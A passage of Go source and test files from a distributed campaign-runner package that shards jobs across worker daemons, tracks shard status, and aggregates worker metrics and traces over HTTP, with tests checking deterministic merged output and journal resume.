	Key      string     `json:"key"`
	Phase    ShardPhase `json:"phase"`
	Worker   string     `json:"worker,omitempty"` // last worker to touch it
	Attempts int        `json:"attempts"`         // dispatch attempts so far
	Trials   int        `json:"trials"`
}

// Status tracks a coordinator run's live shard and worker state. A nil
// *Status is valid everywhere one is plumbed: every method no-ops, the
// same convention obs uses. One Status serves one campaign at a time;
// beginPlan resets it.
type Status struct {
	mu           sync.Mutex
	campaign     string
	shards       []ShardStatus
	workers      []string
	lost         map[string]bool
	redispatches int
	started      time.Time
	finished     bool
	errMsg       string
}

// NewStatus returns an empty status surface, ready to hand to both a
// coordinator Config and an Aggregator.
func NewStatus() *Status { return &Status{} }

func (st *Status) beginPlan(plan *Plan, workers []string) {
	if st == nil {
		return
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	st.campaign = plan.Key
	st.workers = append([]string(nil), workers...)
	st.lost = map[string]bool{}
	st.redispatches = 0
	st.started = time.Now()
	st.finished = false
	st.errMsg = ""
	st.shards = make([]ShardStatus, len(plan.Shards))
	for i, s := range plan.Shards {
		st.shards[i] = ShardStatus{Index: s.Index, Key: s.Key, Phase: ShardPending, Trials: s.Trials}
	}
}

func (st *Status) shardPhase(idx int, phase ShardPhase, worker string) {
	if st == nil {
		return
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	if idx < 0 || idx >= len(st.shards) {
		return
	}
	s := &st.shards[idx]
	s.Phase = phase
	if worker != "" {
		s.Worker = worker
	}
	switch phase {
	case ShardRunning:
		s.Attempts++
	case ShardRetrying:
		st.redispatches++
	}
}

func (st *Status) workerLost(base string) {
	if st == nil {
		return
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	st.lost[base] = true
}

func (st *Status) finish(err error) {
	if st == nil {
		return
	}
	st.mu.Lock()
	defer st.mu.Unlock()
	st.finished = true
	if err != nil {
		st.errMsg = err.Error()
	}
}

// WorkerStatus is one worker's fleet-view row: dispatch-side liveness
// from the coordinator plus scrape-side health from the aggregator.
type WorkerStatus struct {
	Base string `json:"base"`
	// State is "active" or "lost" (abandoned by the dispatcher).
	State string `json:"state"`
	// ScrapeOK reports whether the last metrics scrape succeeded;
	// ScrapeErr carries the failure when it did not. LastScrapeUnixMS is
	// 0 until the first scrape completes.
	ScrapeOK         bool   `json:"scrape_ok"`
	ScrapeErr        string `json:"scrape_err,omitempty"`
	LastScrapeUnixMS int64  `json:"last_scrape_unix_ms,omitempty"`
	// JobsDone is the worker's serve.jobs_done counter from its last
	// scrape (-1 before the first successful scrape).
	JobsDone int64 `json:"jobs_done"`
}

// LatencyQuantiles summarizes one latency histogram from the merged
// fleet snapshot.
type LatencyQuantiles struct {
	Count int64   `json:"count"`
	P50   float64 `json:"p50_ms"`
	P90   float64 `json:"p90_ms"`
	P99   float64 `json:"p99_ms"`
}

// FleetStatus is the /v1/fleet wire form: the live campaign state plus
// fleet-wide latency summaries.
type FleetStatus struct {
	Campaign string `json:"campaign,omitempty"`
	Finished bool   `json:"finished"`
	Err      string `json:"error,omitempty"`
	// Progress is merged shards (done or resumed) over planned shards,
	// in [0,1]; 0 when no plan has begun.
	Progress     float64          `json:"progress"`
	ShardsTotal  int              `json:"shards_total"`
	ShardsDone   int              `json:"shards_done"`
	Redispatches int              `json:"redispatches"`
	WorkersLost  int              `json:"workers_lost"`
	Shards       []ShardStatus    `json:"shards,omitempty"`
	Workers      []WorkerStatus   `json:"workers"`
	JobE2E       LatencyQuantiles `json:"job_e2e_ms"`
	QueueWait    LatencyQuantiles `json:"queue_wait_ms"`
	ShardLatency LatencyQuantiles `json:"shard_latency_ms"`
}

// AggregatorConfig shapes the fleet scraper.
type AggregatorConfig struct {
	// Workers are the worker daemons' base URLs to scrape.
	Workers []string
	// HTTP is the scrape transport (nil = http.DefaultClient).
	HTTP *http.Client
	// Interval is the scrape period for Run (default 2s).
	Interval time.Duration
	// Local, when non-nil, is the coordinator's own hub; its snapshot and
	// spans are folded into the fleet view alongside the workers'.
	Local *obs.Hub
	// Status is the dispatch-side state surface (may be nil).
	Status *Status
	// Log receives scrape failures (nil = silent).
	Log *slog.Logger
}

// Aggregator scrapes worker metrics and serves the fleet-wide view.
type Aggregator struct {
	cfg AggregatorConfig
	log *slog.Logger

	mu      sync.Mutex
	scraped map[string]*obs.Snapshot // last good snapshot per worker
	health  map[string]*WorkerStatus
}

// NewAggregator returns an aggregator; call ScrapeOnce or Run to fill it.
func NewAggregator(cfg AggregatorConfig) *Aggregator {
	if cfg.Interval <= 0 {
		cfg.Interval = 2 * time.Second
	}
	a := &Aggregator{
		cfg:     cfg,
		log:     obs.LoggerOr(cfg.Log),
		scraped: map[string]*obs.Snapshot{},
		health:  map[string]*WorkerStatus{},
	}
	for _, base := range cfg.Workers {
		a.health[base] = &WorkerStatus{Base: base, State: "active", JobsDone: -1}
	}
	return a
}

func (a *Aggregator) client(base string) *serve.Client {
	return &serve.Client{Base: base, HTTP: a.cfg.HTTP}
}

// ScrapeOnce polls every worker's /metrics once, concurrently. A worker
// that fails to answer keeps its previous snapshot (the fleet view
// degrades to slightly stale rather than dropping the worker's counts)
// and is marked unhealthy until the next success.
func (a *Aggregator) ScrapeOnce(ctx context.Context) {
	var wg sync.WaitGroup
	for _, base := range a.cfg.Workers {
		wg.Add(1)
		go func(base string) {
			defer wg.Done()
			snap, err := a.client(base).Metrics(ctx)
			now := time.Now().UnixMilli()
			a.mu.Lock()
			defer a.mu.Unlock()
			h := a.health[base]
			h.LastScrapeUnixMS = now
			if err != nil {
				h.ScrapeOK = false
				h.ScrapeErr = err.Error()
				a.log.Warn("worker scrape failed", "worker", base, "err", err)
				return
			}
			h.ScrapeOK = true
			h.ScrapeErr = ""
			h.JobsDone = counterValue(snap, "serve.jobs_done")
			a.scraped[base] = snap
		}(base)
	}
	wg.Wait()
}

// Run scrapes on the configured interval until ctx is done. One scrape
// happens immediately so the surface is live before the first tick.
func (a *Aggregator) Run(ctx context.Context) {
	t := time.NewTicker(a.cfg.Interval)
	defer t.Stop()
	a.ScrapeOnce(ctx)
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			a.ScrapeOnce(ctx)
		}
	}
}

// Fleet returns the fleet-wide metrics snapshot: every worker's last
// scraped snapshot merged via obs.Snapshot.Merge, plus the local hub's
// when one is configured. Workers merge in sorted-URL order so the
// result is deterministic.
func (a *Aggregator) Fleet() *obs.Snapshot {
	a.mu.Lock()
	bases := make([]string, 0, len(a.scraped))
	for base := range a.scraped {
		bases = append(bases, base)
	}
	sort.Strings(bases)
	fleet := &obs.Snapshot{}
	for _, base := range bases {
		fleet.Merge(a.scraped[base])
	}
	a.mu.Unlock()
	if a.cfg.Local != nil {
		fleet.Merge(a.cfg.Local.Snapshot())
	}
	return fleet
}

// FleetStatus assembles the /v1/fleet view from the dispatch-side Status
// and the scrape-side health plus merged latency histograms.
func (a *Aggregator) FleetStatus() FleetStatus {
	out := FleetStatus{Workers: []WorkerStatus{}}

	var lost map[string]bool
	st := a.cfg.Status
	if st != nil {
		st.mu.Lock()
		out.Campaign = st.campaign
		out.Finished = st.finished
		out.Err = st.errMsg
		out.Redispatches = st.redispatches
		out.ShardsTotal = len(st.shards)
		out.Shards = append([]ShardStatus(nil), st.shards...)
		lost = make(map[string]bool, len(st.lost))
		for w := range st.lost {
			lost[w] = true
		}
		st.mu.Unlock()
		for _, s := range out.Shards {
			if s.Phase == ShardDone || s.Phase == ShardResumed {
				out.ShardsDone++
			}
		}
		if out.ShardsTotal > 0 {
			out.Progress = float64(out.ShardsDone) / float64(out.ShardsTotal)
		}
		out.WorkersLost = len(lost)
	}

	a.mu.Lock()
	bases := make([]string, 0, len(a.health))
	for base := range a.health {
		bases = append(bases, base)
	}
	sort.Strings(bases)
	for _, base := range bases {
		h := *a.health[base]
		if lost[base] {
			h.State = "lost"
		}
		out.Workers = append(out.Workers, h)
	}
	a.mu.Unlock()

	fleet := a.Fleet()
	out.JobE2E = quantiles(fleet, "serve.job_e2e_ms")
	out.QueueWait = quantiles(fleet, "serve.queue_wait_ms")
	out.ShardLatency = quantiles(fleet, "fabric.shard_latency_ms")
	return out
}

// FleetSpans returns the coordinator's spans plus every worker's,
// grouped per process for WriteFleetTrace. trace filters to one trace id
// ("" keeps everything). Workers that fail to answer contribute an empty
// lane rather than failing the assembly.
func (a *Aggregator) FleetSpans(ctx context.Context, trace string) []obs.ProcessSpans {
	procs := []obs.ProcessSpans{}
	if a.cfg.Local != nil {
		spans := a.cfg.Local.Spans().Snapshot()
		if trace != "" {
			spans = obs.FilterTrace(spans, trace)
		}
		procs = append(procs, obs.ProcessSpans{Process: "coordinator", Spans: spans})
	}
	for _, base := range a.cfg.Workers {
		spans, err := a.client(base).Spans(ctx, trace)
		if err != nil {
			a.log.Warn("worker span fetch failed", "worker", base, "err", err)
		}
		procs = append(procs, obs.ProcessSpans{Process: base, Spans: spans})
	}
	return procs
}

// FleetTrace writes the merged cross-process Chrome trace for one trace
// id (or every span when trace is "").
func (a *Aggregator) FleetTrace(ctx context.Context, w io.Writer, trace string) error {
	return obs.WriteFleetTrace(w, a.FleetSpans(ctx, trace))
}

// Handler serves the fleet surface:
//
//	GET /metrics            merged fleet snapshot (JSON; ?format=prom for text exposition)
//	GET /v1/fleet           live FleetStatus
//	GET /v1/spans           coordinator's own spans (?trace= filters)
//	GET /v1/trace           merged cross-process Chrome trace (?trace= filters)
//	GET /healthz            liveness
func (a *Aggregator) Handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, r *http.Request) {
		fleet := a.Fleet()
		if f := r.URL.Query().Get("format"); f == "prom" || f == "prometheus" {
			w.Header().Set("Content-Type", obs.PromContentType)
			if err := obs.WritePromText(w, fleet); err != nil {
				a.log.Warn("prom exposition failed", "err", err)
			}
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(fleet)
	})
	mux.HandleFunc("GET /v1/fleet", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(a.FleetStatus())
	})
	mux.HandleFunc("GET /v1/spans", func(w http.ResponseWriter, r *http.Request) {
		spans := []obs.Span{}
		if a.cfg.Local != nil {
			spans = a.cfg.Local.Spans().Snapshot()
		}
		if trace := r.URL.Query().Get("trace"); trace != "" {
			spans = obs.FilterTrace(spans, trace)
		}
		if spans == nil {
			spans = []obs.Span{}
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(spans)
	})
	mux.HandleFunc("GET /v1/trace", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if err := a.FleetTrace(r.Context(), w, r.URL.Query().Get("trace")); err != nil {
			a.log.Warn("fleet trace failed", "err", err)
		}
	})
	mux.HandleFunc("GET /healthz", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		fmt.Fprintln(w, "ok")
	})
	return mux
}

// counterValue returns a named counter from a snapshot (-1 if absent).
func counterValue(s *obs.Snapshot, name string) int64 {
	for _, c := range s.Counters {
		if c.Name == name {
			return c.Value
		}
	}
	return -1
}

// quantiles summarizes a named histogram from the merged snapshot.
func quantiles(s *obs.Snapshot, name string) LatencyQuantiles {
	for _, h := range s.Histograms {
		if h.Name == name {
			return LatencyQuantiles{
				Count: h.Count,
				P50:   h.Quantile(0.50),
				P90:   h.Quantile(0.90),
				P99:   h.Quantile(0.99),
			}
		}
	}
	return LatencyQuantiles{}
}
