package fabric

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"testing"

	"injectable/internal/obs"
	"injectable/internal/serve"
)

// startObsWorkers boots n worker daemons, each with its own hub, and
// returns base URLs plus the hubs for direct snapshot comparison.
func startObsWorkers(t *testing.T, n int) ([]string, []*obs.Hub) {
	t.Helper()
	urls := make([]string, n)
	hubs := make([]*obs.Hub, n)
	for i := range urls {
		hubs[i] = obs.NewHub()
		srv := serve.NewServer(serve.Config{QueueCap: 32, JobWorkers: 1, TrialWorkers: 2, Hub: hubs[i]})
		hs := httptest.NewServer(srv.Handler())
		t.Cleanup(hs.Close)
		t.Cleanup(srv.Close)
		urls[i] = hs.URL
	}
	return urls, hubs
}

// TestFleetSnapshotEqualsWorkerMerge is the aggregator acceptance test:
// after a real 2-worker campaign, the fleet /metrics view must equal
// obs.Snapshot.Merge over the workers' own snapshots — the aggregator
// adds scraping and transport, never arithmetic.
func TestFleetSnapshotEqualsWorkerMerge(t *testing.T) {
	workers, hubs := startObsWorkers(t, 2)
	st := NewStatus()
	var merged bytes.Buffer
	if _, err := Run(context.Background(), Config{
		Workers: workers,
		Hub:     obs.NewHub(),
		Status:  st,
	}, plan(t, 0), &merged); err != nil {
		t.Fatal(err)
	}

	agg := NewAggregator(AggregatorConfig{Workers: workers, Status: st})
	agg.ScrapeOnce(context.Background())
	fleet := agg.Fleet()

	want := &obs.Snapshot{}
	want.Merge(hubs[0].Snapshot())
	want.Merge(hubs[1].Snapshot())
	if !reflect.DeepEqual(fleet, want) {
		fj, _ := json.Marshal(fleet)
		wj, _ := json.Marshal(want)
		t.Fatalf("fleet snapshot != merge of worker snapshots\nfleet: %s\nwant:  %s", fj, wj)
	}

	// The fleet view saw every shard exactly once across the two workers.
	var done int64
	for _, c := range fleet.Counters {
		if c.Name == "serve.jobs_done" {
			done = c.Value
		}
	}
	if done != 6 {
		t.Errorf("fleet serve.jobs_done = %d, want 6 (one per shard)", done)
	}
}

// TestFleetStatusSurface drives the aggregator's HTTP handler after a
// real run: /v1/fleet reports finished, full progress, per-shard done
// phases and healthy workers; /metrics?format=prom passes the strict
// parser.
func TestFleetStatusSurface(t *testing.T) {
	workers, _ := startObsWorkers(t, 2)
	st := NewStatus()
	hub := obs.NewHub()
	var merged bytes.Buffer
	if _, err := Run(context.Background(), Config{
		Workers: workers,
		Hub:     hub,
		Status:  st,
	}, plan(t, 0), &merged); err != nil {
		t.Fatal(err)
	}

	agg := NewAggregator(AggregatorConfig{Workers: workers, Status: st, Local: hub})
	agg.ScrapeOnce(context.Background())
	ts := httptest.NewServer(agg.Handler())
	defer ts.Close()

	var fs FleetStatus
	getJSON(t, ts.URL+"/v1/fleet", &fs)
	if !fs.Finished || fs.Err != "" {
		t.Errorf("fleet not finished cleanly: %+v", fs)
	}
	if fs.Progress != 1 || fs.ShardsDone != 6 || fs.ShardsTotal != 6 {
		t.Errorf("progress %v done %d/%d, want 1 and 6/6", fs.Progress, fs.ShardsDone, fs.ShardsTotal)
	}
	for _, s := range fs.Shards {
		if s.Phase != ShardDone {
			t.Errorf("shard %d phase %q, want done", s.Index, s.Phase)
		}
		if s.Worker == "" || s.Attempts < 1 {
			t.Errorf("shard %d missing worker/attempts: %+v", s.Index, s)
		}
	}
	if len(fs.Workers) != 2 {
		t.Fatalf("fleet lists %d workers, want 2", len(fs.Workers))
	}
	for _, w := range fs.Workers {
		if w.State != "active" || !w.ScrapeOK {
			t.Errorf("worker %s unhealthy: %+v", w.Base, w)
		}
	}
	if fs.JobE2E.Count != 6 {
		t.Errorf("job e2e quantile count %d, want 6", fs.JobE2E.Count)
	}
	if fs.ShardLatency.Count != 6 {
		t.Errorf("shard latency quantile count %d, want 6", fs.ShardLatency.Count)
	}

	resp, err := http.Get(ts.URL + "/metrics?format=prom")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if _, err := obs.ParsePromText(body); err != nil {
		t.Fatalf("fleet exposition failed strict parse: %v", err)
	}
}

func getJSON(t *testing.T, url string, out any) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: HTTP %d", url, resp.StatusCode)
	}
	if err := json.NewDecoder(resp.Body).Decode(out); err != nil {
		t.Fatal(err)
	}
}

// TestFleetPlaneDoesNotChangeBytes: the observability plane (hub, spans,
// status, logging) must not perturb the merged stream — byte-identical
// to a serial single-process run.
func TestFleetPlaneDoesNotChangeBytes(t *testing.T) {
	want := serialStream(t)
	workers, _ := startObsWorkers(t, 2)
	var log bytes.Buffer
	var merged bytes.Buffer
	if _, err := Run(context.Background(), Config{
		Workers: workers,
		Hub:     obs.NewHub(),
		Status:  NewStatus(),
		Log:     obs.NewLogger(&log, -4), // debug: every lifecycle event on
	}, plan(t, 0), &merged); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(merged.Bytes(), want) {
		t.Fatalf("plane-enabled merge differs from serial run\nmerged:\n%s\nserial:\n%s", merged.Bytes(), want)
	}
	if !bytes.Contains(log.Bytes(), []byte("campaign merged")) {
		t.Error("debug log missing the campaign merged event")
	}
}

// TestFleetTraceCrossProcess is the tracing acceptance test: one merged
// Chrome trace holds the same campaign's spans across the coordinator
// lane and both worker lanes, all under the plan's canonical hash.
func TestFleetTraceCrossProcess(t *testing.T) {
	workers, _ := startObsWorkers(t, 2)
	hub := obs.NewHub()
	p := plan(t, 0)
	var merged bytes.Buffer
	if _, err := Run(context.Background(), Config{
		Workers: workers,
		Hub:     hub,
	}, p, &merged); err != nil {
		t.Fatal(err)
	}

	agg := NewAggregator(AggregatorConfig{Workers: workers, Local: hub})
	var buf bytes.Buffer
	if err := agg.FleetTrace(context.Background(), &buf, p.Key); err != nil {
		t.Fatal(err)
	}
	var out struct {
		TraceEvents []struct {
			Name string            `json:"name"`
			Ph   string            `json:"ph"`
			PID  int               `json:"pid"`
			Args map[string]string `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
		t.Fatal(err)
	}

	lanes := map[int]string{}
	spansPerPID := map[int]int{}
	names := map[string]bool{}
	for _, e := range out.TraceEvents {
		if e.Ph == "M" {
			if e.Name == "process_name" {
				lanes[e.PID] = e.Args["name"]
			}
			continue
		}
		spansPerPID[e.PID]++
		names[e.Name] = true
		if e.Args["trace"] != p.Key {
			t.Fatalf("event %q carries trace %q, want %q", e.Name, e.Args["trace"], p.Key)
		}
	}
	if len(lanes) != 3 {
		t.Fatalf("trace has %d process lanes, want 3 (coordinator + 2 workers): %v", len(lanes), lanes)
	}
	populated := 0
	for pid := range lanes {
		if spansPerPID[pid] > 0 {
			populated++
		}
	}
	if populated < 3 {
		t.Fatalf("only %d of 3 lanes carry spans: %v (per-pid %v)", populated, lanes, spansPerPID)
	}
	for _, want := range []string{"dispatch", "validate", "merge", "queue", "run"} {
		if !names[want] {
			t.Errorf("merged trace missing %q spans: %v", want, names)
		}
	}
}

// TestAggregatorSurvivesDeadWorker: a scrape failure marks the worker
// unhealthy but keeps its previous snapshot in the fleet view.
func TestAggregatorSurvivesDeadWorker(t *testing.T) {
	workers, hubs := startObsWorkers(t, 1)
	hubs[0].Reg().Counter("serve.jobs_done").Inc()
	dead := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusInternalServerError)
	}))
	dead.Close() // connection refused from here on

	agg := NewAggregator(AggregatorConfig{Workers: []string{workers[0], dead.URL}})
	agg.ScrapeOnce(context.Background())
	fs := agg.FleetStatus()
	byBase := map[string]WorkerStatus{}
	for _, w := range fs.Workers {
		byBase[w.Base] = w
	}
	if !byBase[workers[0]].ScrapeOK {
		t.Errorf("healthy worker marked unhealthy: %+v", byBase[workers[0]])
	}
	if w := byBase[dead.URL]; w.ScrapeOK || w.ScrapeErr == "" {
		t.Errorf("dead worker not flagged: %+v", w)
	}
	if got := counterValue(agg.Fleet(), "serve.jobs_done"); got != 1 {
		t.Errorf("fleet lost the healthy worker's counters: jobs_done=%d", got)
	}
}
