package fabric

import (
	"bytes"
	"context"
	"testing"

	"injectable/internal/campaign"
	"injectable/internal/obs"
	"injectable/internal/serve"
)

// serialBinaryStream is serialStream in the binary trial-record format.
func serialBinaryStream(t *testing.T) []byte {
	t.Helper()
	cspec, err := serve.DefaultRegistry().Build(refSpec())
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewBinary(&buf)}}
	if _, err := runner.Run(cspec); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestFabricBinaryOutput runs the fleet with binary merged output: the
// bytes must be identical to a single-process binary run, and transcode
// to exactly the NDJSON the default output would have produced.
func TestFabricBinaryOutput(t *testing.T) {
	wantBin := serialBinaryStream(t)
	wantND := serialStream(t)
	var merged bytes.Buffer
	rep, err := Run(context.Background(), Config{
		Workers: startWorkers(t, 2),
		Hub:     obs.NewHub(),
		Format:  serve.FormatBinary,
	}, plan(t, 0), &merged)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(merged.Bytes(), wantBin) {
		t.Fatal("binary merged stream differs from a single-process binary run")
	}
	if rep.Bytes != int64(merged.Len()) {
		t.Fatalf("report bytes %d, merged %d", rep.Bytes, merged.Len())
	}
	var nd bytes.Buffer
	if err := campaign.TranscodeBinaryToNDJSON(&nd, merged.Bytes()); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(nd.Bytes(), wantND) {
		t.Fatal("transcoded binary merge differs from the NDJSON reference")
	}
}

// TestFabricRejectsUnknownFormat pins the config validation.
func TestFabricRejectsUnknownFormat(t *testing.T) {
	_, err := Run(context.Background(), Config{
		Workers: []string{"http://127.0.0.1:1"},
		Format:  "csv",
	}, plan(t, 0), &bytes.Buffer{})
	if err == nil {
		t.Fatal("unknown format accepted")
	}
}

// TestSplitBinaryShard pins the frame validation binary dispatch rests
// on: tallies extracted without decoding records, trial-count mismatch
// and torn streams rejected.
func TestSplitBinaryShard(t *testing.T) {
	recs := []campaign.Record{
		{Point: "a", Trial: 0, Seed: 1, OK: true},
		{Point: "a", Trial: 1, Seed: 2, Err: "boom"},
	}
	stream := campaign.EncodeBinary(
		campaign.StreamInfo{Name: "x", SeedBase: 1, Points: 1, Trials: 2},
		recs, campaign.StreamTallies{Trials: 2, OK: 1, Failed: 1})

	payload, ok, failed, err := splitBinaryShard(stream, 2)
	if err != nil || ok != 1 || failed != 1 {
		t.Fatalf("split = ok %d, failed %d, err %v", ok, failed, err)
	}
	wantPayload := campaign.AppendBinaryRecord(nil, recs[0])
	wantPayload = campaign.AppendBinaryRecord(wantPayload, recs[1])
	if !bytes.Equal(payload, wantPayload) {
		t.Fatal("payload is not the raw result-frame region")
	}
	if _, _, _, err := splitBinaryShard(stream, 3); err == nil {
		t.Fatal("trial-count mismatch accepted")
	}
	if _, _, _, err := splitBinaryShard(stream[:len(stream)-2], 2); err == nil {
		t.Fatal("torn stream accepted")
	}
	if _, _, _, err := splitBinaryShard([]byte(`{"kind":"campaign"}`+"\n"), 0); err == nil {
		t.Fatal("NDJSON stream accepted as binary")
	}
}

// TestNormalizeShardBody pins the journal upgrade path: binary bodies
// pass through untouched, pre-codec NDJSON bodies are re-encoded to the
// exact frames the binary sink would have produced, and corrupt legacy
// bodies error rather than merging garbage.
func TestNormalizeShardBody(t *testing.T) {
	rec := campaign.Record{Point: "p", Trial: 3, Seed: 77, OK: true, Value: []byte(`{"success":true}`)}
	bin := campaign.AppendBinaryRecord(nil, rec)
	got, err := normalizeShardBody(bin)
	if err != nil {
		t.Fatal(err)
	}
	if &got[0] != &bin[0] {
		t.Fatal("binary body was copied, want pass-through")
	}

	line, err := rec.AppendNDJSONLine(nil)
	if err != nil {
		t.Fatal(err)
	}
	upgraded, err := normalizeShardBody(line)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(upgraded, bin) {
		t.Fatal("upgraded NDJSON body differs from the binary encoding")
	}

	if got, err := normalizeShardBody(nil); err != nil || len(got) != 0 {
		t.Fatalf("empty body = %q, %v", got, err)
	}
	if _, err := normalizeShardBody([]byte("{not json\n")); err == nil {
		t.Fatal("corrupt legacy body accepted")
	}
}

// TestFabricResumeLegacyJournal resumes a campaign from shard records
// whose bodies are NDJSON result lines — the checkpoint format before
// the binary codec — with no reachable workers. The merged output must
// still be byte-identical to the serial run, in both output formats.
func TestFabricResumeLegacyJournal(t *testing.T) {
	p := plan(t, 0)
	reg := serve.DefaultRegistry()
	var resume []ShardRecord
	for _, s := range p.Shards {
		cspec, err := reg.Build(s.Spec)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		runner := campaign.Runner{Workers: 1, Sinks: []campaign.Sink{campaign.NewNDJSON(&buf)}}
		if _, err := runner.Run(cspec); err != nil {
			t.Fatal(err)
		}
		body, ok, failed, err := splitShardStream(buf.Bytes(), s.Trials)
		if err != nil {
			t.Fatal(err)
		}
		resume = append(resume, ShardRecord{Key: s.Key, Index: s.Index, OK: ok, Failed: failed, Body: body})
	}

	for _, tc := range []struct {
		format string
		want   []byte
	}{
		{serve.FormatNDJSON, serialStream(t)},
		{serve.FormatBinary, serialBinaryStream(t)},
	} {
		var merged bytes.Buffer
		rep, err := Run(context.Background(), Config{
			Workers: []string{"http://127.0.0.1:1"}, // unreachable: resume must not dispatch
			Resume:  resume,
			Format:  tc.format,
		}, p, &merged)
		if err != nil {
			t.Fatalf("%s: %v", tc.format, err)
		}
		if rep.Dispatched != 0 || rep.Resumed != len(p.Shards) {
			t.Fatalf("%s: report %+v, want full resume", tc.format, rep)
		}
		if !bytes.Equal(merged.Bytes(), tc.want) {
			t.Fatalf("%s: legacy-journal resume differs from serial run", tc.format)
		}
	}
}
