// Package fabric shards campaigns across a fleet of injectabled workers
// and merges their result streams back into one deterministic campaign
// stream — the cross-node analogue of internal/campaign's worker pool.
//
// The pieces mirror the in-process engine one level up:
//
//   - Planner: a validated job spec is split into contiguous point-range
//     shards. Each shard is itself an ordinary serve.JobSpec carrying
//     point_start/point_count, and its canonical key is the spec's
//     SHA-256 dedup hash extended with the range — the same key on every
//     node, which is what lets fleet-wide dedup/replay semantics hold
//     (two coordinators sharding the same sweep produce byte-identical
//     shard jobs with identical cache keys on every worker).
//   - Dispatcher: shards fan out to worker daemons over the serve client.
//     A throttled worker backs off per Retry-After; a dead worker is
//     abandoned after consecutive transport failures and its shards are
//     redispatched to the survivors.
//   - Journal: every completed shard is appended to an on-disk
//     checkpoint (key, tallies, payload, digest) before it is merged, so
//     a crashed or restarted coordinator resumes a campaign without
//     recomputing finished shards — at million-trial scale losing the
//     coordinator must not mean losing the fleet's work.
//   - Merger: shard payloads are released in shard order through
//     campaign.Collator — the exact ordered-collation mechanism the
//     in-process runner uses for trials — under one global NDJSON
//     header/trailer, so the merged stream is byte-identical to a
//     single-process run of the whole spec.
//
// Determinism is inherited, not re-proven: per-point seed bases are
// absolute, so a shard's result lines are the same bytes whether the
// point ran in a full campaign, alone on a worker, or replayed from a
// worker's cache.
package fabric

import (
	"fmt"

	"injectable/internal/serve"
)

// Shard is one dispatchable unit: a contiguous point range of a campaign.
type Shard struct {
	// Index is the shard's position in the plan; the merger releases
	// payloads in index order.
	Index int
	// Spec is the shard's job spec: the campaign spec plus its point
	// range. It is served by ordinary workers with no fabric knowledge.
	Spec serve.JobSpec
	// Key is the shard's canonical identity (spec hash + point range) —
	// the journal checkpoint key and the workers' dedup/cache key.
	Key string
	// Points and Trials size the shard.
	Points int
	Trials int
}

// Plan is a sharded campaign: the full-spec identity the merged stream
// advertises plus the ordered shard list.
type Plan struct {
	// Spec is the normalized full-campaign spec.
	Spec serve.JobSpec
	// Key is the full campaign's canonical hash.
	Key string
	// Name is the campaign name the NDJSON header carries (the campaign
	// spec's Name, e.g. "fig9-exp1" or "scenarioA/lightbulb").
	Name string
	// SeedBase, Points and Trials are the header's identity fields.
	SeedBase uint64
	Points   int
	Trials   int
	// Shards lists the dispatch units in merge order.
	Shards []Shard
}

// PlanShards validates spec against the registry and splits it into at
// most maxShards contiguous point-range shards (0 = one shard per point,
// the finest grain). The spec must not itself carry a point range —
// shards of shards would break the merged stream's identity.
func PlanShards(reg *serve.Registry, spec serve.JobSpec, maxShards int) (*Plan, error) {
	if spec.PointStart != 0 || spec.PointCount != 0 {
		return nil, fmt.Errorf("fabric: spec already carries a point range [%d,+%d)",
			spec.PointStart, spec.PointCount)
	}
	if maxShards < 0 {
		return nil, fmt.Errorf("fabric: negative shard count %d", maxShards)
	}
	norm, err := reg.Validate(spec)
	if err != nil {
		return nil, err
	}
	cspec, err := reg.Build(norm)
	if err != nil {
		return nil, err
	}
	points := len(cspec.Points)
	if points == 0 {
		return nil, fmt.Errorf("fabric: experiment %q expands to zero points", norm.Experiment)
	}
	shards := maxShards
	if shards == 0 || shards > points {
		shards = points
	}

	plan := &Plan{
		Spec:     norm,
		Key:      norm.Key(),
		Name:     cspec.Name,
		SeedBase: cspec.SeedBase,
		Points:   points,
		Trials:   cspec.TotalTrials(),
	}
	// Near-equal contiguous ranges: the first (points % shards) shards
	// take one extra point.
	start := 0
	for i := 0; i < shards; i++ {
		count := points / shards
		if i < points%shards {
			count++
		}
		sspec := norm
		if !(start == 0 && count == points) {
			// A shard spanning every point IS the full campaign; keeping
			// the zero range makes its key (and the workers' cache entry)
			// coincide with an unsharded submission of the same spec.
			sspec.PointStart, sspec.PointCount = start, count
		}
		trials := 0
		for _, p := range cspec.Points[start : start+count] {
			if p.Trials > 0 {
				trials += p.Trials
			}
		}
		plan.Shards = append(plan.Shards, Shard{
			Index:  i,
			Spec:   sspec,
			Key:    sspec.Key(),
			Points: count,
			Trials: trials,
		})
		start += count
	}
	return plan, nil
}
