package fabric

import (
	"bytes"
	"errors"
	"testing"
)

// FuzzDecodeShardJournal hammers the checkpoint decoder. Properties:
//
//   - it never panics, whatever bytes a crashed or hostile node left on
//     disk;
//   - any records it does return re-encode to a byte-exact prefix of the
